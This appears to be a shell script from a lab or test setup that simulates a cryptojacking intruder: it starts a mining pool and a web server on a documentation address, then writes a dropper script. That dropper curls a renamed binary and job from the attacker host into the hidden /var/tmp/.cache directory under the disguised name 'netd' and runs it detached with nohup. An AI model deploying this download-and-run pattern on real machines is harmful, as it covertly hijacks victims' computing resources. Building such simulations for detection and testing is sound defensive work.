# What the intruder has of his own: a pool, and a server from which the victim fetches. Sourced in the folder of the scripts.
#   URL  of the server, whose folder is www
set -euo pipefail
home=198.51.100.7
URL=http://$home:8000
mkdir www
mkfifo said
tail -f /dev/null | python3 pool.py --host "$home" --port 3333 >said &
read -r _ <said
python3 serve.py 8000 www "$home" >said &
read -r _ <said

# The stand-in for a miner is an interpreter under another name: a program of its own file, as a real one is.
cp "$(readlink -f /usr/bin/python3)" www/program
cp miner.py www/job
cat >www/run.sh <<RUN
#!/bin/sh
mkdir -p /var/tmp/.cache
curl -fsS -o /var/tmp/.cache/netd $URL/program
curl -fsS -o /var/tmp/.cache/job $URL/job
chmod +x /var/tmp/.cache/netd
(sleep 600 | nohup /var/tmp/.cache/netd /var/tmp/.cache/job 3333 --host $home --hold) >/dev/null 2>&1 &
RUN
